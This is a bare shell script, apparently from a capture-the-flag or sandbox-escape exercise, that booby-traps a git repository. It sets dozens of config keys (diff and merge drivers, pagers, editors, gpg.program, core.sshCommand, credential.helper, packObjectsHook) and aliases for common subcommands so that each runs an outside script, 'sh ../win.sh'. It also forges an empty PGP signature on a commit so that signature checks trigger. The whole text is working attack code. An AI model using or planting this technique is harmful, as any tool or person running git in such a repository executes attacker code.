cd repo
echo wrong >word.txt
git add word.txt
git commit --quiet --message=Wrong
echo '* filter=win diff=win merge=win' >.git/info/attributes
for key in diff.external diff.win.command diff.win.textconv merge.win.driver core.pager pager.log pager.status \
  pager.show-ref core.editor sequence.editor gpg.program gpg.ssh.program core.askPass core.sshCommand core.gitProxy \
  credential.helper interactive.diffFilter core.alternateRefsCommand uploadpack.packObjectsHook; do
  git config "$key" "sh ../win.sh"
done
for command in status log rev-parse for-each-ref cat-file merge-base diff-tree patch-id ls-files read-tree checkout-index; do
  git config "alias.$command" "!sh ../win.sh"
done
git config log.showSignature true
git config diff.win.cachetextconv true
commit=$(git cat-file commit HEAD | sed '0,/^$/s//gpgsig -----BEGIN PGP SIGNATURE-----\n \n -----END PGP SIGNATURE-----\n/' |
  git hash-object -t commit -w --stdin)
git update-ref refs/heads/main "$commit"
